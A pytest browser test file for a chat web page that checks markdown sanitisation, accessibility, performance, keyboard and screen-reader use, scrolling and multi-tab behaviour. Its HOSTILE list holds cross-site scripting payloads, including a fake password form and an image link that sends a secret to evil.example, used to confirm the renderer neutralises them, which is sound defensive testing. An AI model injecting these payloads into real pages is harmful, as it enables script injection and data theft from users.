"""The chat page under what models and readers do to it: hostile text, long chats, fast streams, keys only, no eyes."""

import asyncio
from typing import Any

import pytest

from backends.errors import Overloaded
from backends.events import TextDelta
from backends.fake import FakeBackend
from tests.gateway import gateway
from tests.integration.browser import BROWSER, PageAt
from tests.integration.chat_page import DONE, PHONE, Chat, chat_at, expect, says

pytestmark = BROWSER

HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<style>body { display: none }</style><b style='position:fixed'>b</b>",
    "<form action='https://evil.example'><input name=password></form>",
    "<iframe src='https://evil.example'></iframe><object data='https://evil.example'></object>",
    "<svg onload='window.hacked = 1'><a href='javascript:window.hacked = 1'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "[click](javascript:window.hacked=1)",
    "[click](  JaVaScRiPt:window.hacked=1)",
    "[click](java\tscript:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](blob:https://evil.example/1)",
    "[click](//evil.example/x) [click](/static/main.js) [click](\\\\evil.example)",
    "![secret](https://evil.example/?q=secret)",
    "![a](https://evil.example/a.png)![b](javascript:window.hacked=1)",
    "[![a](https://evil.example/a.png)](javascript:window.hacked=1)",
    "![](https://evil.example/a.png 'title\" onerror=\"window.hacked=1')",
    '[a](https://evil.example/"onclick="window.hacked=1)',
    '```html" onmouseover="window.hacked=1\n<script>window.hacked=1</script>\n```',
    "```constructor\n__proto__\n```",
    "https://evil.example/auto javascript:window.hacked=1 <https://evil.example>",
    "<a href='javascript:window.hacked=1'>x</a> &lt;script&gt;window.hacked=1&lt;/script&gt;",
    "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| [x](javascript:window.hacked=1) | <script>1</script> |",
    "> " * 60 + "deep",
    "- " * 60 + "deep",
    "**" * 40 + "_" * 40 + "`" * 9,
    "[" * 60 + "](javascript:window.hacked=1)",
    "$\\href{javascript:window.hacked=1}{x}$ $$<script>window.hacked=1</script>$$",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "\u202e\u0000\ufeff<scr\u0000ipt>window.hacked=1</scr\u0000ipt>",
]
# Renders each text cut in two at every place, and says which elements, attributes and addresses ever came out of it.
RENDER = """async (texts) => {
    const { Markdown } = await import("/static/markdown.js");
    const seen = { tags: new Set(), attributes: new Set(), links: new Set() };
    for (const text of texts) {
        for (let cut = 0; cut <= text.length; cut += 1) {
            const root = document.createElement("div");
            document.body.append(root);
            const markdown = new Markdown(root, () => {});
            markdown.write(text.slice(0, cut));
            markdown.write(text.slice(cut));
            markdown.end();
            for (const element of root.querySelectorAll("*")) {
                seen.tags.add(element.localName);
                for (const { name } of element.attributes) seen.attributes.add(name);
                if (element.hasAttribute("href")) seen.links.add(new URL(element.href).protocol);
            }
            root.remove();
        }
    }
    return Object.fromEntries(Object.entries(seen).map(([name, found]) => [name, [...found]]));
}"""
TAGS = {
    "a", "blockquote", "br", "code", "div", "em", "h3", "h4", "h5", "h6", "hr", "input", "li", "ol", "p", "pre", "s",
    "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {
    "aria-label", "checked", "class", "data-language", "disabled", "href", "rel", "role", "scope", "start", "tabindex",
    "target", "title", "type",
}  # fmt: skip


async def test_hostile_text_does_nothing(page_at: PageAt) -> None:
    backend = FakeBackend("fake", script=says("ok"))
    async with gateway(backends=[backend]) as started:
        chat = await chat_at(page_at, started)
        seen = await chat.page.evaluate(RENDER, HOSTILE)
        assert set(seen["tags"]) <= TAGS
        assert set(seen["attributes"]) <= ATTRIBUTES
        assert set(seen["links"]) <= {"http:", "https:", "mailto:"}
        whole = "\n\n".join(HOSTILE)
        backend.script = says(*whole)  # and once the whole way, a character at a time
        await chat.ask("<img src=x onerror='window.hacked = 1'>")
        await chat.ended()
        await expect(chat.question.locator(".said")).to_have_text("<img src=x onerror='window.hacked = 1'>")
        await expect(chat.answer.locator(".prose")).to_contain_text("<script>window.hacked = 1</script>")
        await expect(chat.answer.locator("script, img, iframe, form, style, link")).to_have_count(0)
        await expect(chat.answer.get_by_role("link", name="secret")).to_have_attribute(
            "href", "https://evil.example/?q=secret"
        )
        for link in await chat.answer.get_by_text("click", exact=True).all():
            assert await link.get_attribute("href") is None
        assert await chat.page.evaluate("window.hacked") is None
        chat.tab.assert_clean()
        refused = "try { document.body.innerHTML = '<b>x</b>'; false } catch (error) { error instanceof TypeError }"
        assert await chat.page.evaluate(refused)  # not even by a mistake of ours


MARKDOWN = """# Title

A paragraph with **strong**, *soft*, `code` and [a link](https://example.org).

1. One
2. Two
   - Inner

- [x] Done
- [ ] Open

> Quoted

| A | B |
|---|---|
| 1 | 2 |

```python
def answer(): return 42  # a comment
```

---
The end."""


@pytest.mark.parametrize(
    "options",
    [{"color_scheme": "light"}, {"color_scheme": "dark"}, {**PHONE, "color_scheme": "dark"}],
    ids=["light", "dark", "phone"],
)
async def test_axe_finds_nothing(page_at: PageAt, options: dict[str, Any]) -> None:
    backend = FakeBackend("fake", script=says(MARKDOWN))
    async with gateway(backends=[backend]) as started:
        chat = Chat(await page_at(started, **options))
        await expect(chat.page.get_by_text("answers here")).to_be_visible()
        assert await chat.tab.axe() == []
        await chat.box.fill("Show me everything")
        await chat.button("Send").click()
        await chat.ended()
        await expect(chat.answer.locator(".hl-keyword").first).to_be_visible()  # in colours
        await chat.button("Answer again", chat.answer).click()
        await expect(chat.answer.locator(".versions-count")).to_have_text("2/2")
        await chat.ended()
        backend.script = [Overloaded()]
        await chat.box.fill("And fail")
        await chat.button("Send").click()
        await expect(chat.answer.locator(".problem")).to_be_visible()
        assert await chat.tab.axe() == []
        await chat.button("Answer again with another model", chat.answer).click()
        assert await chat.tab.axe() == []
        await chat.page.keyboard.press("Escape")
        await chat.button("Settings").click()
        assert await chat.tab.axe() == []
        await chat.button("Done").click()
        await chat.page.keyboard.press("?")
        await expect(chat.page.get_by_role("dialog", name="Keyboard")).to_be_visible()
        assert await chat.tab.axe() == []
        chat.tab.assert_clean()


MANY = """async () => {
    const { Chats } = await import("/static/chats.js");
    const { Conversation } = await import("/static/tree.js");
    const text =
        "A **paragraph** with `code`.\\n\\n- one\\n- two\\n\\n```python\\nprint('hello')\\n```\\n\\n".repeat(3);
    const long = Conversation.empty("long", 1);
    for (let number = 0; number < 500; number += 1)
        long.add({ id: `n${number}`, parent: number ? `n${number - 1}` : null, role: number % 2 ? "assistant" : "user",
            text: `${text} Message ${number}.`, at: number + 1 });
    await new Chats(() => {}).save(long.data);
}"""
OPEN = """() => new Promise((resolve) => {
    const began = performance.now();
    location.hash = "#long";
    const look = () => {
        const last = document.querySelector("article:last-child");
        if (last?.textContent.includes("Message 499.")) requestAnimationFrame(() => resolve(performance.now() - began));
        else requestAnimationFrame(look);
    };
    look();
})"""


# Not wait_for_function: when it must ask twice, it evaluates a string, which the page's policy forbids.
AT_END = """() => new Promise((done) => {
    const look = () => scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight < 2
        ? done() : requestAnimationFrame(look);
    look();
})"""


async def test_500_messages_open_within_a_second(page_at: PageAt) -> None:
    async with gateway(backends=[FakeBackend("fake")]) as started:
        chat = await chat_at(page_at, started)
        await chat.page.evaluate(MANY)
        times = []
        for _ in range(5):
            times.append(await chat.page.evaluate(OPEN))
            await chat.page.keyboard.press("Control+k")
            await expect(chat.page.locator("article")).to_have_count(0)
        assert min(times) < 1000, times
        await chat.page.goto("/#long")
        await expect(chat.page.locator("article")).to_have_count(500)  # the older ones follow by themselves
        await chat.page.evaluate(AT_END)
        await expect(chat.page.locator("article").last).to_be_in_viewport()
        chat.tab.assert_clean()


async def test_a_fast_stream_never_blocks_the_page(page_at: PageAt) -> None:
    """100 tokens a second. Other programs may hold up a frame too, so one undisturbed run of several is enough."""
    backend = FakeBackend("fake", text=(MARKDOWN + "\n\n") * 5, tokens_per_second=100)
    async with gateway(backends=[backend]) as started:
        chat = await chat_at(page_at, started)
        await chat.page.evaluate(
            """() => {
                window.tasks = [];
                const took = (list) => list.getEntries().map(({ duration }) => duration);
                new PerformanceObserver((list) => window.tasks.push(...took(list))).observe({ type: "longtask" });
            }"""
        )
        longest = []
        for _ in range(4):
            await chat.page.evaluate("window.tasks = []")
            await chat.asked("Say a lot")
            longest.append(max(await chat.page.evaluate("window.tasks"), default=0))
            if longest[-1] <= 100:
                break
        assert min(longest) <= 100, f"a frame was held up for {longest} ms"


async def test_the_whole_way_with_keys_only(page_at: PageAt) -> None:
    backend = FakeBackend("fake", script=says("Hello."))
    async with gateway(backends=[backend]) as started:
        chat = await chat_at(page_at, started)
        keys = chat.page.keyboard
        await expect(chat.box).to_be_focused()
        await keys.type("one")
        await keys.press("Shift+Enter")
        await keys.type("two")
        await keys.press("Enter")
        await expect(chat.question.locator(".said")).to_have_text("one\ntwo")
        await chat.ended()
        await expect(chat.box).to_be_focused()
        for _ in range(6):  # backwards through what can be done with the answer
            await keys.press("Shift+Tab")
            if await chat.button("Answer again", chat.answer).evaluate("(button) => button === document.activeElement"):
                break
        backend.script = says("Hello again.")
        await keys.press("Enter")
        await expect(chat.answer.locator(".prose")).to_have_text("Hello again.")
        await chat.ended()
        await keys.press("Tab")
        await chat.button("Previous version", chat.answer).focus()
        await keys.press("Enter")
        await expect(chat.answer.locator(".prose")).to_have_text("Hello.")
        await expect(chat.button("Next version", chat.answer)).to_be_focused()  # not lost with the old view
        await keys.press("?")
        await expect(chat.page.get_by_role("dialog", name="Keyboard")).to_be_visible()
        await keys.press("Escape")
        await keys.press("/")
        await expect(chat.box).to_be_focused()
        await keys.press("Control+k")
        await expect(chat.page.locator("article")).to_have_count(0)
        await expect(chat.box).to_be_focused()
        await keys.press("Control+b")
        await expect(chat.page.get_by_role("link", name="New chat")).to_be_hidden()
        await keys.press("Control+b")
        await expect(chat.page.get_by_role("searchbox")).to_be_focused()
        chat.tab.assert_clean()


async def test_a_screen_reader_hears_the_answer_once_and_whole(page_at: PageAt) -> None:
    backend = FakeBackend("fake", script=says("This ", "comes ", "in **pieces**.\n\n```\n1 + 1\n```"))
    async with gateway(backends=[backend]) as started:
        chat = await chat_at(page_at, started)
        await chat.page.evaluate(
            """() => {
                window.heard = [];
                const region = document.getElementById("announcer");
                new MutationObserver(() => region.textContent && window.heard.push(region.textContent))
                    .observe(region, { childList: true });
            }"""
        )
        await chat.asked()
        await expect(chat.page.locator("#announcer")).to_contain_text("1 + 1")
        heard = await chat.page.evaluate("window.heard")
        assert heard[-1].splitlines() == ["This comes in pieces.", "1 + 1"]
        assert set(heard[:-1]) <= {"Answering…"}
        assert (
            await chat.answer.evaluate("(article) => article.closest('[aria-live], [role=status], [role=log]')") is None
        )


async def test_a_reader_who_scrolled_up_stays_there(page_at: PageAt) -> None:
    gate = asyncio.Event()
    lines = [[TextDelta(f"Line {number}.\n\n")] for number in range(80)]
    async with gateway(backends=[FakeBackend("fake", script=[*lines, gate, *lines, [DONE]])]) as started:
        chat = await chat_at(page_at, started)
        await chat.ask()
        await expect(chat.answer.get_by_text("Line 79.")).to_be_in_viewport()  # followed to the end
        await chat.page.mouse.move(700, 300)
        await chat.page.mouse.wheel(0, -600)
        await expect(chat.button("Jump to latest")).to_be_visible()
        place = "scroller.scrollTop"
        await chat.page.wait_for_timeout(400)  # for Chromium's own smooth scrolling
        before = await chat.page.evaluate(place)
        assert before > 0
        gate.set()
        await chat.ended()
        await expect(chat.answer.get_by_text("Line 79.")).to_have_count(2)
        assert await chat.page.evaluate(place) == before
        await chat.button("Jump to latest").click()
        await expect(chat.answer.get_by_text("Line 79.").last).to_be_in_viewport()
        await expect(chat.button("Jump to latest")).to_be_hidden()


async def test_code_is_copied_when_its_fence_is_closed(page_at: PageAt) -> None:
    gate = asyncio.Event()
    script = [[TextDelta("```python\nprint('a < b')\n")], gate, [TextDelta("```\nDone.")], [DONE]]
    async with gateway(backends=[FakeBackend("fake", script=script)]) as started:
        chat = await chat_at(page_at, started, permissions=["clipboard-read", "clipboard-write"])
        await chat.ask()
        await expect(chat.answer.locator("pre")).to_contain_text("print")
        await expect(chat.button("Copy code")).to_have_count(0)
        gate.set()
        await chat.button("Copy code").click()
        assert (await chat.page.evaluate("navigator.clipboard.readText()")).rstrip() == "print('a < b')"
        await expect(chat.answer.locator(".hl-string")).to_have_text("'a < b'")
        chat.tab.assert_clean()


async def test_two_tabs_show_one_chat(page_at: PageAt) -> None:
    async with gateway(backends=[FakeBackend("fake", script=says("Hello."))]) as started:
        chat = await chat_at(page_at, started)
        await chat.asked("first")
        other = await chat.page.context.new_page()
        await other.goto(chat.page.url)
        await expect(other.locator("article")).to_have_count(2)
        await chat.asked("second")
        await expect(other.locator("article")).to_have_count(4)
        await expect(other.locator("article").last).to_contain_text("Hello.")


async def test_another_tab_shows_an_answer_to_its_end(page_at: PageAt) -> None:
    gate = asyncio.Event()
    backend = FakeBackend("fake", script=says("Hello."))
    async with gateway(backends=[backend]) as started:
        chat = await chat_at(page_at, started)
        await chat.asked("first")
        other = await chat.page.context.new_page()
        await other.goto(chat.page.url)
        await expect(other.locator("article")).to_have_count(2)
        await other.evaluate("window.first = document.querySelector('article')")
        backend.script = [[TextDelta("Half")], gate, [TextDelta(" and the rest.")], [DONE]]
        await chat.ask("second")
        answer = other.locator("article").last
        await expect(answer.locator(".prose")).to_have_text("Half")
        await expect(answer).to_have_attribute("aria-busy", "true")
        gate.set()
        await expect(answer.locator(".prose")).to_have_text("Half and the rest.")
        await expect(answer).to_have_attribute("aria-busy", "false")
        assert await other.evaluate("window.first.isConnected")  # what has not changed is not built again


async def test_the_theme_is_chosen_and_kept(page_at: PageAt) -> None:
    async with gateway(backends=[FakeBackend("fake")]) as started:
        chat = await chat_at(page_at, started, color_scheme="light")
        ground = "getComputedStyle(document.documentElement).backgroundColor"
        light = await chat.page.evaluate(ground)
        await chat.button("Theme: as the system").click()
        await chat.button("Theme: light").click()
        await expect(chat.button("Theme: dark")).to_be_visible()
        dark = await chat.page.evaluate(ground)
        assert light != dark
        await chat.page.reload()
        assert await chat.page.evaluate(ground) == dark
